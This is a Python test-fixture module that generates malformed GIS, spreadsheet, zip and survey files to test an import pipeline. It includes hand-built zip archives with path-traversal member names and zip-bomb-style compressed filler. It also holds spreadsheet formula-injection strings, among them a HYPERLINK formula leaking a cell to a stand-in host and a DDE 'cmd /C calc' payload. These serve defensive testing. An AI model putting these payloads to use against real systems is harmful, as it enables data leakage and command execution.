"""The writers of the malformed files: zips by hand, GIS files, tables, survey exports.

Every file of ``tests.malformed_corpus`` is written by one of these, into a
folder the test module owns; the good content they break lies in Wrocław's
Nadodrze estate (``POINT_A``, ``SQUARE_A``…).
"""

from __future__ import annotations

import json
import random
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import geopandas as gpd
import openpyxl
from shapely.geometry import Polygon

MB = 1024 * 1024

# Inside Nadodrze (Wrocław), where team ztps-7 works.
POINT_A = (17.0310, 51.1203)
POINT_B = (17.0290, 51.1190)
SQUARE_A = [(17.025, 51.116), (17.030, 51.116), (17.030, 51.120), (17.025, 51.120)]
SQUARE_B = [(17.031, 51.116), (17.036, 51.116), (17.036, 51.120), (17.031, 51.120)]
# Nadodrze's point in PUWG 1992 (EPSG:2180) metres.
POINT_A_2180 = (359_780.0, 364_460.0)

TABLE_HEADER = "Nazwa;Kategoria;Adres;Szerokość;Długość"


def _lat_lon(point: tuple[float, float]) -> str:
    """``lat;lon`` with decimal commas, as Polish Excel writes them."""
    lon, lat = point
    return f"{lat:.4f};{lon:.4f}".replace(".", ",")


GOOD_ROWS = [
    f"Świetlica Próbna;Świetlica;ul. Próbna 1;{_lat_lon(POINT_A)}",
    f"Klub Seniora Żółty;Klub seniora;ul. Łąkowa 2;{_lat_lon(POINT_B)}",
]
# The same two resources as a file the spreadsheet import takes as it is.
GOOD_ROWS_CSV = "\r\n".join([TABLE_HEADER, *GOOD_ROWS, ""]).encode("cp1250")


# --- writers: zips by hand ------------------------------------------------------------------


@dataclass(frozen=True)
class Filler:
    """A member of ``megabytes`` MB of one byte between a head and a tail, never held whole."""

    megabytes: int
    byte: bytes = b"\0"
    head: bytes = b""
    tail: bytes = b""


def _deflated(payload: bytes | Filler) -> tuple[bytes, int, int]:
    """(raw deflate data, CRC-32, unpacked size) of a member."""
    if isinstance(payload, bytes):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(payload) + packer.flush(), zlib.crc32(payload), len(payload)
    chunk = payload.byte * MB
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(payload.head) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the compressor starts afresh: every megabyte packs the same.
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    assert packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH) == block
    tail = packer.compress(payload.tail) + packer.flush(zlib.Z_FINISH)
    crc = zlib.crc32(payload.head)
    for _ in range(payload.megabytes):
        crc = zlib.crc32(chunk, crc)
    data = head + block * payload.megabytes + tail
    crc = zlib.crc32(payload.tail, crc)
    size = len(payload.head) + payload.megabytes * MB + len(payload.tail)
    return data, crc, size


def write_zip(path: Path, members: list[tuple[str, bytes | Filler]], *, flags: int = 0) -> None:
    """A zip written byte by byte: any member name (``../x``, ``/etc/x``), any size, any flag.

    ``zipfile`` cleans names and holds a member whole while deflating it; a
    malformed archive needs neither.
    """
    local = bytearray()
    central = bytearray()
    for name, payload in members:
        data, crc, size = _deflated(payload)
        encoded = name.encode("utf-8")
        offset = len(local)
        fields = (20, flags | 0x800, 8, 0, 0x21, crc, len(data), size, len(encoded), 0)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + encoded + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, offset
        ) + encoded
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(local), 0
    )
    path.write_bytes(bytes(local) + bytes(central) + end)


# --- writers: GIS files ---------------------------------------------------------------------


def _frame(geometries: list, crs: str = "EPSG:4326", **columns: list) -> gpd.GeoDataFrame:
    names = ["Osiedle Próbne", "Osiedle Drugie", "Osiedle Trzecie"][: len(geometries)]
    data = {
        "nazwa": names,
        "kategoria": ["Świetlica"] * len(geometries),
        "adres": [f"ul. Łąkowa {i}" for i in range(1, len(geometries) + 1)],
        **columns,
    }
    return gpd.GeoDataFrame(data, geometry=geometries, crs=crs)


def good_areas() -> gpd.GeoDataFrame:
    """Two adjacent squares in Nadodrze, with the names, categories and addresses of a resource."""
    return _frame([Polygon(SQUARE_A), Polygon(SQUARE_B)])


def _feature_collection(features: list[dict], **extra: object) -> dict:
    return {"type": "FeatureCollection", **extra, "features": features}


def _feature(geometry: dict | None, name: str = "Osiedle Próbne") -> dict:
    return {
        "type": "Feature",
        "properties": {"nazwa": name, "kategoria": "Świetlica", "adres": "ul. Łąkowa 1"},
        "geometry": geometry,
    }


def _ring(points: list[tuple[float, float]]) -> list[list[float]]:
    return [list(p) for p in [*points, points[0]]]


def _polygon_json(points: list[tuple[float, float]]) -> dict:
    return {"type": "Polygon", "coordinates": [_ring(points)]}


def _write_json(document: object) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        # json writes NaN and Infinity as bare words, as some exporters do.
        path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")

    return write


def _write_bytes(content: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(content)


def _write_text(text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    return lambda path: path.write_bytes(text.encode(encoding))


def _garbage(size: int = 4096, seed: int = 1) -> bytes:
    """Bytes no format recognises (no NUL-free text, no magic number), the same on every run."""
    return random.Random(seed).randbytes(size)


def _truncated(write: Callable[[Path], None], share: float = 0.5) -> Callable[[Path], None]:
    """The file ``write`` makes, cut short as an interrupted download leaves it."""

    def cut(path: Path) -> None:
        write(path)
        content = path.read_bytes()
        path.write_bytes(content[: int(len(content) * share)])

    return cut


def _sparse(size: int) -> Callable[[Path], None]:
    """A file of ``size`` bytes that takes no room on disk: a size check must refuse it unread."""

    def write(path: Path) -> None:
        with path.open("wb") as handle:
            handle.truncate(size)

    return write


OVER_LIMIT = 201 * MB
HTML = (
    "<!DOCTYPE html>\n<html lang=\"pl\"><head><meta charset=\"utf-8\">"
    "<title>Strona główna</title></head>\n<body><h1>Zaloguj się</h1>\n"
    "<form action=\"/logowanie\"><input name=\"login\"></form></body></html>\n"
)


def _geojson(frame: gpd.GeoDataFrame) -> Callable[[Path], None]:
    return _write_text(frame.to_json())


def _gpkg(frame: gpd.GeoDataFrame, crs: str = "EPSG:2180") -> Callable[[Path], None]:
    def write(path: Path) -> None:
        frame.to_crs(crs).to_file(path, driver="GPKG", layer="osiedla")

    return write


def _shapefile_parts(
    frame: gpd.GeoDataFrame, folder: Path, *, crs: str = "EPSG:2180", encoding: str = "utf-8"
) -> dict[str, bytes]:
    """The files of a shapefile of ``frame``, by suffix."""
    folder.mkdir(parents=True, exist_ok=True)
    frame.to_crs(crs).to_file(folder / "osiedla.shp", encoding=encoding)
    return {p.suffix: p.read_bytes() for p in folder.iterdir()}


def _shapefile_zip(
    frame: gpd.GeoDataFrame,
    *,
    crs: str = "EPSG:2180",
    encoding: str = "utf-8",
    prefix: str = "osiedla/osiedla",
    change: Callable[[dict[str, bytes]], dict[str, bytes]] | None = None,
    flags: int = 0,
) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        parts = _shapefile_parts(frame, path.parent / f"{path.stem}.parts", crs=crs,
                                 encoding=encoding)
        if change is not None:
            parts = change(parts)
        write_zip(path, [(prefix + suffix, data) for suffix, data in sorted(parts.items())],
                  flags=flags)

    return write


def _kml(frame: gpd.GeoDataFrame) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        frame.to_crs("EPSG:4326").to_file(path, driver="KML")

    return write


def _kml_text(placemarks: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>Osiedla</name>\n'
        f"{placemarks}</Document></kml>\n"
    )


def _placemark(name: str, coordinates: list[tuple[float, ...]]) -> str:
    text = " ".join(",".join(f"{c}" for c in point) for point in coordinates)
    return (
        f"<Placemark><name>{name}</name><Polygon><outerBoundaryIs><LinearRing>"
        f"<coordinates>{text}</coordinates></LinearRing></outerBoundaryIs></Polygon>"
        "</Placemark>\n"
    )


def _kmz(kml: str, name: str = "doc.kml") -> Callable[[Path], None]:
    return lambda path: write_zip(path, [(name, kml.encode("utf-8"))])


def _plain_sqlite(path: Path) -> None:
    """An SQLite database that is no GeoPackage: a table of names, no geometry."""
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE osiedla (nazwa TEXT, kategoria TEXT)")
        connection.execute("INSERT INTO osiedla VALUES ('Osiedle Próbne', 'Świetlica')")
    connection.close()


def _attribute_gpkg(path: Path) -> None:
    """A GeoPackage whose only table has attributes and no geometry (a list, not a map)."""
    import pandas as pd
    import pyogrio

    table = pd.DataFrame({"nazwa": ["Osiedle Próbne"], "kategoria": ["Świetlica"],
                          "adres": ["ul. Łąkowa 1"]})
    pyogrio.write_dataframe(table, path, layer="lista", driver="GPKG")


# --- writers: tables ------------------------------------------------------------------------


def _csv(rows: list[str], header: str = TABLE_HEADER, encoding: str = "utf-8",
         bom: bool = False) -> Callable[[Path], None]:
    text = "\r\n".join([header, *rows]) + "\r\n"
    return _write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding))


def _xlsx(rows: list[list[object]], header: list[str] | None = None) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(header or TABLE_HEADER.split(";"))
        for row in rows:
            sheet.append(row)
        workbook.save(path)

    return write


XLSX_ROWS: list[list[object]] = [
    ["Świetlica Próbna", "Świetlica", "ul. Próbna 1", POINT_A[1], POINT_A[0]],
    ["Klub Seniora Żółty", "Klub seniora", "ul. Łąkowa 2", POINT_B[1], POINT_B[0]],
]

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/'
    'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
    '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>'
)


def _xlsx_parts(path: Path) -> list[tuple[str, bytes]]:
    """The members of a small real workbook, to rebuild with one of them replaced."""
    _xlsx(XLSX_ROWS)(path)
    with zipfile.ZipFile(path) as packed:
        return [(info.filename, packed.read(info)) for info in packed.infolist()]


def _xlsx_with_sheet(sheet: bytes | Filler) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        parts = [(name, sheet if name == "xl/worksheets/sheet1.xml" else data)
                 for name, data in _xlsx_parts(path)]
        write_zip(path, parts)

    return write


def _xlsx_formulas(path: Path) -> None:
    """Formulas saved without their values (as a script, not Excel, writes them)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(TABLE_HEADER.split(";"))
    sheet.append(['=CONCATENATE("Świetlica ";"Próbna")', "Świetlica", "ul. Próbna 1",
                  POINT_A[1], POINT_A[0]])
    sheet.append(["=A2", "Klub seniora", "ul. Łąkowa 2", "=51.119", POINT_B[0]])
    workbook.save(path)


def _xlsx_formula_text(path: Path) -> None:
    """Text that looks like formulas, stored as text (what an export must escape, not run)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(TABLE_HEADER.split(";"))
    for i, name in enumerate(FORMULA_NAMES):
        cell_row = [name, "Świetlica", f"ul. Próbna {i + 1}", POINT_A[1], POINT_A[0]]
        sheet.append(cell_row)
        sheet.cell(sheet.max_row, 1).data_type = "s"
    workbook.save(path)


FORMULA_NAMES = ['=HYPERLINK("http://zly.example/?"&A1;"Kliknij")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "+48 71 123 45 67", "-2+3"]


def _over_table_limit(path: Path) -> None:
    """A real CSV of 6 MB: under the 200 MB file limit, over the spreadsheet import's 5 MB."""
    row = f"Świetlica Próbna;Świetlica;ul. Próbna 1;{_lat_lon(POINT_A)};" + "x" * 200
    lines = [TABLE_HEADER + ";Opis", *[row] * (6 * MB // len(row) + 1)]
    path.write_bytes("\r\n".join(lines).encode("utf-8"))


# --- survey exports -------------------------------------------------------------------------


def kobo_rows(seed: int = 11) -> list[list[str]]:
    """A KoboToolbox export of 12 respondents in Nadodrze and Kleczków (header first)."""
    from surveys import samples
    from tests.survey_fixtures import estate_form, estate_shapes

    form = estate_form()
    shapes = {name: estate_shapes()[name] for name in ("Nadodrze", "Kleczków")}
    return samples.kobo_rows(form, samples.generate(form, 12, shapes, seed=seed))


def kobo_csv(seed: int = 11) -> bytes:
    """``kobo_rows`` as the CSV KoboToolbox exports (semicolons, UTF-8)."""
    rows = kobo_rows(seed)
    return ("\r\n".join(";".join(_quoted(c) for c in row) for row in rows) + "\r\n").encode()


def _kobo(change: Callable[[list[list[str]]], list[list[str]]] | None = None,
          encoding: str = "utf-8", bom: bool = False, tail: str = "") -> Callable[[Path], None]:
    def write(path: Path) -> None:
        rows = kobo_rows()
        if change is not None:
            rows = change(rows)
        text = "\r\n".join(";".join(_quoted(c) for c in row) for row in rows) + "\r\n" + tail
        path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding))

    return write


def _quoted(cell: object) -> str:
    text = "" if cell is None else str(cell)
    return f'"{text.replace(chr(34), chr(34) * 2)}"' if any(c in text for c in ';"\n') else text


def _set_column(name: str, value: str, rows_from: int = 1) -> Callable:
    def change(rows: list[list[str]]) -> list[list[str]]:
        column = rows[0].index(name)
        for row in rows[rows_from:]:
            row[column] = value
        return rows

    return change


def _drop_columns(*prefixes: str) -> Callable:
    def change(rows: list[list[str]]) -> list[list[str]]:
        keep = [i for i, h in enumerate(rows[0]) if not h.startswith(prefixes)]
        return [[row[i] for i in keep] for row in rows]

    return change


def _no_estate_nan_point(rows: list[list[str]]) -> list[list[str]]:
    rows = _set_column("gdzie/osiedle", "")(rows)
    rows = _set_column("gdzie/punkt", "NaN NaN 0 0")(rows)
    rows = _set_column("_geolocation", "[NaN, NaN]")(rows)
    return _set_column("gdzie/punkt", "inf -inf 0 0", rows_from=len(rows) - 1)(rows)
